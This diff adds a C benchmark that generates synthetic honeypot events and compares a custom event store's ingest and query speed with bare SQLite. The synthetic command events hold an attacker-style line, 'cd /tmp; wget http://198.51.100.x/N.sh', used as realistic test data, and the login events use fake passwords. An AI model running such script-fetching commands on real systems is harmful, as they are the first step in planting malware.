@@ -1,0 +1,410 @@
+/* The store against bare SQLite: events in with all tallies, and how long questions take.
+ *
+ *   store_bench [EVENTS [DAYS [SOURCES]]]     default 1000000 90 100000
+ *
+ * Ours is timed from the JSON line on: reading it, looking everything up, rows, sums, commits, and
+ * putting days together. Bare is an insert of the finished event rows into the same table with the
+ * same indexes, pragmas and batch size, in the same run, chunk by chunk in turn, so that both meet
+ * the same machine. Bare writes no sessions, sources or credentials.
+ */
+#include <fcntl.h>
+#include <math.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/resource.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <sqlite3.h>
+
+#include "base/clock.h"
+#include "base/log.h"
+#include "store/query.h"
+#include "store/schema.h"
+#include "store/sqlite_folder.h"
+#include "store/store.h"
+
+#define CHUNK      (4 * STORE_BATCH_MAX)
+#define COLUMNS    20
+#define START      (INT64_C(1767225600) * SECOND) /* 2026-01-01 */
+#define USERS      5000
+#define PASSWORDS  50000
+#define SENSORS    9
+#define QUERY_RUNS 5
+
+struct generator {
+	uint64_t state;
+	struct ulid_source ids, session_ids;
+	int64_t events, days, sources;
+	int64_t made;
+	char session[ULID_LENGTH + 1];
+	int step, steps, user, password, sensor, protocol;
+	int64_t source;
+};
+
+static uint64_t draw(struct generator *g)
+{
+	g->state ^= g->state << 13;
+	g->state ^= g->state >> 7;
+	g->state ^= g->state << 17;
+	return g->state;
+}
+
+/* Of count, few often and many rarely (density 1/x). */
+static int64_t zipf(struct generator *g, int64_t count)
+{
+	double u = (double)(draw(g) >> 11) / 9007199254740992.0;
+
+	return (int64_t)(exp(u * log((double)count)) - 1e-9);
+}
+
+static const struct {
+	const char *name;
+	int port;
+} protocols[] = {{"ssh", 22},    {"telnet", 23}, {"http", 80},    {"smb", 445},
+		 {"mssql", 1433}, {"mysql", 3306}, {"rdp", 3389}, {"sip", 5060}};
+
+static void start_session(struct generator *g, int64_t time)
+{
+	ulid_next(&g->session_ids, time, g->session);
+	g->step = 0;
+	g->steps = 2 + (int)(draw(g) % 6);
+	g->source = zipf(g, g->sources) * 2654435761 % 4000000007;
+	g->sensor = (int)(draw(g) % SENSORS);
+	g->protocol = (int)zipf(g, (int64_t)ARRAY_COUNT(protocols) + 1) % 8;
+}
+
+static void describe(struct generator *g, struct event *event, char words[][64])
+{
+	event_set_words(event, FIELD_SESSION_ID, g->session);
+	event_set_words(event, FIELD_NETWORK_PROTOCOL, protocols[g->protocol].name);
+	event_set_words(event, FIELD_NETWORK_TRANSPORT, "tcp");
+	event_set_number(event, FIELD_DESTINATION_PORT, protocols[g->protocol].port);
+	event_set_number(event, FIELD_SOURCE_PORT, (int64_t)(1024 + draw(g) % 60000));
+	snprintf(words[0], sizeof(words[0]), "sensor-%d", g->sensor);
+	event_set_words(event, FIELD_OBSERVER_NAME, words[0]);
+	if (g->step == 0) {
+		event_set_words(event, FIELD_EVENT_ACTION, "session.open");
+	} else if (g->step == g->steps - 1) {
+		event_set_words(event, FIELD_EVENT_ACTION, "session.close");
+		event_set_number(event, FIELD_EVENT_DURATION, 1500000000);
+		event_set_number(event, FIELD_SOURCE_BYTES, 900);
+		event_set_number(event, FIELD_DESTINATION_BYTES, 2200);
+		event_set_words(event, FIELD_EVENT_REASON, "client closed");
+	} else if (g->step < 5) {
+		event_set_words(event, FIELD_EVENT_ACTION, "auth.attempt");
+		snprintf(words[1], sizeof(words[1]), "user%d", (int)zipf(g, USERS));
+		snprintf(words[2], sizeof(words[2]), "Passw0rd%d", (int)zipf(g, PASSWORDS));
+		event_set_words(event, FIELD_USER_NAME, words[1]);
+		event_set_words(event, FIELD_AUTH_PASSWORD, words[2]);
+		event_set_words(event, FIELD_EVENT_OUTCOME, draw(g) % 50 ? "failure" : "success");
+	} else {
+		event_set_words(event, FIELD_EVENT_ACTION, "command.input");
+		snprintf(words[1], sizeof(words[1]), "cd /tmp; wget http://198.51.100.%d/%d.sh",
+			 (int)zipf(g, 255), (int)zipf(g, 20000));
+		event_set_words(event, FIELD_COMMAND, words[1]);
+	}
+}
+
+static void generate(struct generator *g, struct writer *line)
+{
+	int64_t time = START + (int64_t)((double)g->made / (double)g->events *
+					 (double)(g->days * DAY));
+	char id[ULID_LENGTH + 1], words[3][64];
+	static const char *const countries[] = {"CN", "US", "RU", "DE", "BR", "VN", "IN", "NL"};
+	struct address source;
+	struct event event;
+
+	if (g->step == g->steps)
+		start_session(g, time);
+	event_clear(&event);
+	ulid_next(&g->ids, time, id);
+	source = address_v4((uint32_t)(0x0b000000 + g->source));
+	event_set_number(&event, FIELD_TIME, time);
+	event_set_words(&event, FIELD_EVENT_ID, id);
+	event_set_number(&event, FIELD_SCHEMA, EVENT_SCHEMA_VERSION);
+	event_set_address(&event, FIELD_SOURCE_IP, &source);
+	event_set_words(&event, FIELD_SOURCE_COUNTRY, countries[g->source % 8]);
+	event_set_number(&event, FIELD_SOURCE_ASN, 1000 + g->source % 3000);
+	event_set_real(&event, FIELD_SOURCE_LATITUDE, (double)(g->source % 100) - 50);
+	event_set_real(&event, FIELD_SOURCE_LONGITUDE, (double)(g->source % 300) - 150);
+	describe(g, &event, words);
+	writer_clear(line);
+	event_write(&event, line);
+	g->step++;
+	g->made++;
+}
+
+/* --- ours --- */
+
+static double seconds_since(int64_t start)
+{
+	return (double)(clock_monotonic() - start) / 1e6;
+}
+
+static double ingest(struct store *store, const struct writer *lines, size_t count)
+{
+	int64_t start = clock_monotonic();
+	struct spool_position after = {1, 0};
+
+	for (size_t i = 0; i < count; i++) {
+		if (store_batch(store) == 0 && store_begin(store) < 0)
+			fatal("begin: %s", store_problem(store));
+		after.offset += lines[i].length + 1;
+		if (store_add(store, writer_slice(&lines[i]), "bench", after) != STORE_STORED)
+			fatal("add: %s", store_problem(store));
+		if ((store_batch(store) == STORE_BATCH_MAX || i + 1 == count) &&
+		    store_commit(store) < 0)
+			fatal("commit: %s", store_problem(store));
+	}
+	while (store_tend(store) > 0)
+		continue;
+	return seconds_since(start);
+}
+
+/* --- bare --- */
+
+struct bare {
+	sqlite3 *from, *to;
+	sqlite3_stmt *select, *insert;
+	sqlite3_value *(*rows)[COLUMNS];
+};
+
+static void must(int answer, sqlite3 *database)
+{
+	if (answer != SQLITE_OK && answer != SQLITE_DONE && answer != SQLITE_ROW)
+		fatal("bare: %s", sqlite3_errmsg(database));
+}
+
+static void bare_open(struct bare *bare, int ours_fd, int bare_fd)
+{
+	char name[SQLITE_FOLDER_NAME_MAX], why[256];
+
+	if (sqlite_folder_name(ours_fd, STORE_FILE, name) < 0)
+		fatal("no name");
+	must(sqlite3_open_v2(name, &bare->from, SQLITE_OPEN_READONLY, "unix"), bare->from);
+	if (sqlite_folder_name(bare_fd, "bare.db", name) < 0)
+		fatal("no name");
+	must(sqlite3_open_v2(name, &bare->to, SQLITE_OPEN_READWRITE | SQLITE_OPEN_CREATE, "unix"),
+	     bare->to);
+	must(sqlite3_exec(bare->to,
+			  "PRAGMA auto_vacuum=INCREMENTAL; PRAGMA journal_mode=WAL;"
+			  "PRAGMA synchronous=NORMAL; PRAGMA cache_size=-6144;"
+			  "PRAGMA wal_autocheckpoint=2000",
+			  NULL, NULL, NULL),
+	     bare->to);
+	if (schema_prepare(bare->to, why, sizeof(why)) < 0)
+		fatal("%s", why);
+	must(sqlite3_prepare_v2(bare->from, "SELECT * FROM event WHERE id > ? ORDER BY id LIMIT ?",
+				-1, &bare->select, NULL),
+	     bare->from);
+	must(sqlite3_prepare_v2(bare->to,
+				"INSERT INTO event VALUES(?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)",
+				-1, &bare->insert, NULL),
+	     bare->to);
+	bare->rows = calloc(CHUNK, sizeof(*bare->rows));
+	if (!bare->rows)
+		fatal("no memory");
+}
+
+static double bare_insert(struct bare *bare, int64_t after, size_t count)
+{
+	int64_t start;
+	double seconds;
+
+	sqlite3_bind_int64(bare->select, 1, after);
+	sqlite3_bind_int64(bare->select, 2, (int64_t)count);
+	for (size_t i = 0; i < count; i++) {
+		if (sqlite3_step(bare->select) != SQLITE_ROW)
+			fatal("rows are missing");
+		for (int c = 0; c < COLUMNS; c++)
+			bare->rows[i][c] =
+				sqlite3_value_dup(sqlite3_column_value(bare->select, c));
+	}
+	sqlite3_reset(bare->select);
+	start = clock_monotonic();
+	for (size_t i = 0; i < count; i++) {
+		if (i % STORE_BATCH_MAX == 0)
+			must(sqlite3_exec(bare->to, "BEGIN", NULL, NULL, NULL), bare->to);
+		for (int c = 0; c < COLUMNS; c++)
+			sqlite3_bind_value(bare->insert, c + 1, bare->rows[i][c]);
+		must(sqlite3_step(bare->insert), bare->to);
+		sqlite3_reset(bare->insert);
+		if ((i + 1) % STORE_BATCH_MAX == 0 || i + 1 == count)
+			must(sqlite3_exec(bare->to, "COMMIT", NULL, NULL, NULL), bare->to);
+	}
+	seconds = seconds_since(start);
+	for (size_t i = 0; i < count; i++)
+		for (int c = 0; c < COLUMNS; c++)
+			sqlite3_value_free(bare->rows[i][c]);
+	return seconds;
+}
+
+static void bare_close(struct bare *bare)
+{
+	sqlite3_finalize(bare->select);
+	sqlite3_finalize(bare->insert);
+	sqlite3_close(bare->from);
+	sqlite3_close(bare->to);
+	free(bare->rows);
+}
+
+/* --- questions --- */
+
+static bool pass_event(void *context, const struct query_event *event)
+{
+	*(int64_t *)context += (int64_t)event->json.length;
+	return true;
+}
+
+static void ask_top(struct store *store, const char *dimension, const struct query_range *range)
+{
+	struct query_rows rows;
+
+	if (query_top(store, dimension_named(slice_text(dimension)), MEASURE_OWN, range, 10, &rows) <
+	    0)
+		fatal("top: %s", store_problem(store));
+	query_rows_free(&rows);
+}
+
+static void ask(struct store *store, const char *what, const struct query_range *range)
+{
+	struct query_totals totals;
+	struct query_point *points;
+	struct query_filter filter = query_filter_any();
+	size_t count;
+	int64_t sum = 0;
+	int result = 0;
+
+	if (strcmp(what, "totals") == 0) {
+		result = query_totals(store, range, &totals);
+	} else if (strcmp(what, "timeline") == 0) {
+		result = query_timeline(store, range, DAY, &points, &count);
+		free(points);
+	} else if (strcmp(what, "events") == 0) {
+		filter.range = *range;
+		result = query_events(store, &filter, pass_event, &sum, NULL);
+	} else {
+		ask_top(store, what, range);
+	}
+	if (result < 0)
+		fatal("%s: %s", what, store_problem(store));
+}
+
+static void time_questions(int fd, int64_t end)
+{
+	static const char *const questions[] = {
+		"source.ip", "source.country", "source.asn", "source.location", "destination.port",
+		"user.name", "password",       "credential", "command",         "totals",
+		"timeline",  "events",
+	};
+	static const int days[] = {1, 7, 30, 0};
+	char why[256];
+
+	printf("%-18s%10s%10s%10s%10s   ms, best of %d, own connection each\n", "question",
+	       "24h", "7d", "30d", "all", QUERY_RUNS);
+	for (size_t q = 0; q < ARRAY_COUNT(questions); q++) {
+		printf("%-18s", questions[q]);
+		for (size_t d = 0; d < ARRAY_COUNT(days); d++) {
+			struct query_range range = {days[d] ? end - days[d] * DAY : 0, 0, NULL};
+			double best = 1e9;
+
+			for (int run = 0; run < QUERY_RUNS; run++) {
+				int64_t start = clock_monotonic();
+				struct store *store =
+					store_open(fd, STORE_READ, NULL, why, sizeof(why));
+
+				if (!store)
+					fatal("%s", why);
+				ask(store, questions[q], &range);
+				store_close(store);
+				if (seconds_since(start) < best)
+					best = seconds_since(start);
+			}
+			printf("%10.2f", best * 1e3);
+		}
+		printf("\n");
+	}
+}
+
+static int folder(const char *parent, const char *name)
+{
+	char path[512];
+
+	snprintf(path, sizeof(path), "%s/%s", parent, name);
+	if (mkdir(path, 0700) < 0)
+		fatal("mkdir %s: %m", path);
+	return open(path, O_RDONLY | O_DIRECTORY);
+}
+
+static void clear(int fd, const char *file)
+{
+	static const char *const ends[] = {"", "-wal", "-shm"};
+	char name[64];
+
+	for (size_t i = 0; i < ARRAY_COUNT(ends); i++) {
+		snprintf(name, sizeof(name), "%s%s", file, ends[i]);
+		unlinkat(fd, name, 0);
+	}
+}
+
+int main(int argc, char **argv)
+{
+	struct generator g = {.state = 88172645463325252u, .events = 1000000, .days = 90,
+			      .sources = 100000};
+	char scratch[] = "/tmp/store-bench-XXXXXX", why[256];
+	struct writer *lines = calloc(CHUNK, sizeof(*lines));
+	struct bare bare = {0};
+	struct store_status status;
+	struct rusage usage;
+	struct store *store;
+	double ours = 0, theirs = 0;
+	int ours_fd, bare_fd;
+
+	if (argc > 1)
+		g.events = strtoll(argv[1], NULL, 10);
+	if (argc > 2)
+		g.days = strtoll(argv[2], NULL, 10);
+	if (argc > 3)
+		g.sources = strtoll(argv[3], NULL, 10);
+	if (!lines || !mkdtemp(scratch))
+		fatal("no scratch folder: %m");
+	ours_fd = folder(scratch, "ours");
+	bare_fd = folder(scratch, "bare");
+	store = store_open(ours_fd, STORE_WRITE, NULL, why, sizeof(why));
+	if (!store)
+		fatal("%s", why);
+	bare_open(&bare, ours_fd, bare_fd);
+	for (size_t i = 0; i < CHUNK; i++)
+		lines[i] = writer_growing(EVENT_LINE_MAX);
+	while (g.made < g.events) {
+		int64_t before = g.made;
+		size_t count = 0;
+
+		for (; count < CHUNK && g.made < g.events; count++)
+			generate(&g, &lines[count]);
+		ours += ingest(store, lines, count);
+		theirs += bare_insert(&bare, before, count);
+	}
+	if (store_status(store, &status) < 0)
+		fatal("%s", store_problem(store));
+	getrusage(RUSAGE_SELF, &usage);
+	printf("%lld events, %lld days: ours %.0f/s, bare %.0f/s, ratio %.2f; %.0f bytes an event; "
+	       "a line has %zu\n",
+	       (long long)g.events, (long long)g.days, (double)g.events / ours,
+	       (double)g.events / theirs, theirs / ours,
+	       (double)status.bytes / (double)g.events, lines[0].length);
+	store_close(store);
+	time_questions(ours_fd, START + g.days * DAY);
+	bare_close(&bare);
+	for (size_t i = 0; i < CHUNK; i++)
+		writer_free(&lines[i]);
+	free(lines);
+	clear(ours_fd, STORE_FILE);
+	clear(bare_fd, "bare.db");
+	close(ours_fd);
+	close(bare_fd);
+	if (chdir(scratch) == 0 && rmdir("ours") == 0 && rmdir("bare") == 0 && chdir("/") == 0)
+		rmdir(scratch);
+	return 0;
+}
